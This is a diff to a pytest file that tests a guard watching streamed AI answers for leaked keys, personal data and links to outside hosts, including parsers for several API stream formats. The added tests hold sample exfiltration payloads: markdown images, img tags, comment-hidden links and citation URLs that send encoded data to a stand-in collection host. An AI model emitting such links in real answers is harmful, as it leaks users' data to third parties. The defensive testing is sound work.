@@ -31,7 +31,7 @@ STRICT = Says(links_beside=("static.firm.example",)), Says(credentials=True), Sa
 
 def watch(*says: Says, request: str = "", **more: Any) -> Watch:
     policies = [Applying(f"p{number}", Policy(says_that=one, effect="deny", **more)) for number, one in enumerate(says)]
-    return Watch(policies, Given(SYSTEM, request))
+    return Watch(policies, Given(SYSTEM, {"input": request}))
 
 
 def through(text: str, cuts: list[int], watching: Watch) -> str:
@@ -126,6 +126,80 @@ def test_a_check_states_counts_and_kinds_and_no_text() -> None:
     }
     found = {name: value for one in checks for name, value in one.inputs.items() if name not in ("policy", "version")}
     assert found == {"links": 1, "credentials": 2, "personal_data": ["iban"], "system_text": True}
+
+
+KEY = (
+    "-----BEGIN PRIVATE KEY-----\n"
+    + "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ" + "abcdefghijkl"] * 24)
+    + "\n-----END PRIVATE KEY-----"
+)
+LONG = "so many words " * 50
+
+
+@pytest.mark.parametrize("size", [1, 3, 8, 24, 200])
+@pytest.mark.parametrize(
+    ("secret", "mark"),
+    [
+        (KEY, "MIIE"), (f"![x](<https://collect.example/{LONG}?d=c2VjcmV0>)", "collect"),
+        (f'<img alt="a" src="https://collect.example/{LONG}?d=c2VjcmV0">', "collect"),
+        (f"<!-- {LONG} --><a href='https://collect.example/?d=c2VjcmV0'>x</a>", "collect"),
+        ("Ring +49 30 / 2345 6789 for more.", "2345"),
+    ],
+)  # fmt: skip
+def test_what_is_long_or_has_spaces_in_it_leaves_as_little(secret: str, mark: str, size: int) -> None:
+    text = "Here it is, as you have asked for it. " * 12 + secret + " That is all of it. " * 20
+    watching = watch(*STRICT, Says(personal_data=("any",)))
+    left = through(text, list(range(size, len(text), size)), watching)
+    assert watching.broken and mark not in left
+    assert left.startswith("Here it is"), "what stood before it has left"
+
+
+@pytest.mark.parametrize(
+    "text", ["12,ab,34\n" * 4000, "\u6570\u636e" * 16000, "x" * 32000, "<a b " * 6000, "](a" * 9000]
+)
+def test_reading_a_long_answer_grows_with_its_length_alone(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    read = [0]
+    plain = Watch._found
+
+    def found(self: Watch, says: Any, said: str) -> Any:
+        read[0] += len(said)
+        return (False, {}) if len(said) < len(text) else plain(self, says, said)
+
+    monkeypatch.setattr(Watch, "_found", found)
+    watching = watch(Says(personal_data=("any",)))
+    for at in range(0, len(text), 4):
+        watching.add([("0", text[at : at + 4])])
+    assert read[0] <= 45 * len(text)
+
+
+def test_an_account_that_the_request_writes_without_spaces_is_nobody_elses_either() -> None:
+    watching = watch(Says(personal_data=("any",)), request="is gb82west12345698765432 mine?")
+    watching.add([("0", f"It is {SECRETS['iban']}.")])
+    assert [one.verdict for one in watching.checks(whole=True)] == ["pass"]
+
+
+ELSEWHERE: dict[str, Any] = {
+    "an item of Responses": {"type": "response.output_item.done", "item": {"type": "message", "content": [{"type": "output_text", "text": "one"}]}},
+    "the end of a text of Responses": {"type": "response.output_text.done", "text": "one"},
+    "a response without its kind": {"output": [{"type": "message", "content": [{"text": "one"}]}]},
+    "a voice": {"choices": [{"index": 0, "delta": {"audio": {"transcript": "one"}}}]},
+    "a message beside a delta": {"choices": [{"index": 0, "delta": {"role": "assistant"}, "message": {"content": "one"}}]},
+    "the beginning of a message": {"type": "message_start", "message": {"content": [{"type": "text", "text": "one"}]}},
+    "a citation": {"type": "content_block_delta", "index": 0, "delta": {"type": "citations_delta", "citation": {"cited_text": "one"}}},
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("where", ELSEWHERE)
+def test_a_text_is_read_wherever_some_client_would_show_it(where: str) -> None:
+    assert [text for _, text in said_in(ELSEWHERE[where])] == ["one"]
+
+
+def test_an_address_of_a_citation_is_read_as_one() -> None:
+    cited = {"choices": [{"index": 0, "delta": {"annotations": [{"url_citation": {"url": "https://collect.example/?d=c2VjcmV0"}}]}}]}  # fmt: skip
+    watching = watch(*STRICT)
+    watching.add(said_in(cited))
+    watching.end()
+    assert watching.broken == "p0"
 
 
 WHOLE: dict[str, tuple[Any, dict[str, Any]]] = {
